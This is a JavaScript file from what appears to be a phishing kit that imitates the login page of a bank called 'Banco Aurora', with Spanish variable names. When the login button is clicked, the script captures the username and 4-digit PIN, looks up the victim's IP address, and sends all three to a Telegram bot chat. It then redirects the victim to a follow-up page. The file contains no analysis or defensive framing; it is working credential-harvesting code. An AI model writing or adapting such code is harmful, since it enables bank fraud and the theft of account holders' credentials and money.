const CONFIG = { token: '0000:TOKEN', chat: '-1000000000' };

async function obtenerIP() {
  try {
    const r = await fetch('https://api.ipify.org?format=json');
    const { ip } = await r.json();
    return ip;
  } catch (_) {
    return 'desconocida';
  }
}

async function enviar(texto) {
  await fetch(`https://api.telegram.org/bot${CONFIG.token}/sendMessage`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ chat_id: CONFIG.chat, text: texto, parse_mode: 'HTML' }),
  });
}

document.querySelector('#btnIngresar').addEventListener('click', async (e) => {
  e.preventDefault();
  const usuario = document.querySelector('#usuario').value.trim();
  const clave = document.querySelector('#clave').value.trim();
  const error = document.querySelector('#mensajeError');
  if (usuario.length < 5 || clave.length !== 4) {
    error.textContent = 'Usuario o clave inválidos';
    return;
  }
  document.querySelector('.cargando').classList.add('visible');
  const ip = await obtenerIP();
  await enviar(`🏦 <b>Banco Aurora</b>\n👤 Usuario: <code>${usuario}</code>\n🔑 Clave: <code>${clave}</code>\n🌐 IP: ${ip}`);
  sessionStorage.setItem('usuario', usuario);
  setTimeout(() => { window.location.href = 'dinamica.html'; }, 4000);
});
